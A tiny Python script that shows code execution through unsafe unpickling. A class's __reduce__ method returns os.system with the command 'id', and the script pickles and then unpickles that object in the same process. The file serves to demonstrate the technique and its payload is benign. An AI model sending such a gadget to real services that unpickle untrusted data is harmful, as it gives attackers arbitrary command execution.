"""runs the code of a hostile pickle inside and nowhere else"""
# says: uid=1000
import os
import pickle


class Hostile:
    def __reduce__(self):
        return os.system, ("id",)


pickle.loads(pickle.dumps(Hostile()));
